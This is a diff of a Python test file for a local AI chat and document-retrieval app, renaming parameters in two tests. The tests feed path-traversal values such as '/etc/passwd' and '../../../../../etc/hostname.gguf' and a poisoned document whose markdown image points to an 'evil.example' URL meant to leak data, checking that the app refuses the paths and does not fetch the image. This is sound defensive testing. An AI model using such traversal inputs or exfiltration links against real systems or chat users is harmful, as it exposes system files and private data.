@@ -207,9 +207,9 @@ def test_paths_outside_the_allowed_folders_are_refused_alike(client):
     gen = ["vae", "folder", 16, 1]
     assert "outside the folders" in refusal(client, "/generate_start", *gen, "/etc", 10, 0, 0, 8, 0.001, 8)
     assert "outside the folders" in refusal(client, "/generate_start", *gen, "/nonexistent", 10, 0, 0, 8, 0.001, 8)
-    chat = dict(message="hi", coll="(none: plain chat)", backend_name="llamacpp", max_new=16)
-    assert "outside the folders" in refusal(client, "/chat", model_name="/etc/passwd", **chat)
-    assert "outside the folders" in refusal(client, "/chat", model_name="../../../../../etc/hostname.gguf", **chat)
+    chat = dict(message="hi", collection="(none: plain chat)", backend="llamacpp", max_tokens=16)
+    assert "outside the folders" in refusal(client, "/chat", model="/etc/passwd", **chat)
+    assert "outside the folders" in refusal(client, "/chat", model="../../../../../etc/hostname.gguf", **chat)
     msg = refusal(client, "/eval_run", "answers_demo", None, "documents=/etc/passwd", "(none)")
     assert "outside the folders" in msg
 
@@ -548,9 +548,9 @@ def test_chat_shows_a_poisoned_document_without_fetching_anything(client, tmp_pa
     doc.write_text("The lamp room of the lighthouse is cleaned every morning by the keeper, who signs "
                    "![logo](http://evil.example/steal.png?data=1) the log at http://evil.example/more each day.\n")
     client.predict([handle_file(str(doc))], None, "poison", "recursive", 0, -1, api_name="/ingest")
-    client.predict(api_name="/on_load")  # the page's load event: this session now lists the collection
-    chat, *_ = client.predict(message="Who cleans the lamp room of the lighthouse?", coll="poison",
-                              style_v="extractive", min_v=0.0, api_name="/chat")
+    client.predict(api_name="/chat_load")  # the page's load event: this session now lists the collection
+    chat, *_ = client.predict(message="Who cleans the lamp room of the lighthouse?", collection="poison",
+                              style="extractive", min_score=0.0, api_name="/chat")
     shown = chat[-1]["content"] if isinstance(chat[-1], dict) else str(chat[-1])
     shown = shown if isinstance(shown, str) else json.dumps(shown)
     assert "keeper" in shown and "(image: logo)" in shown  # the quote kept its words, not the image
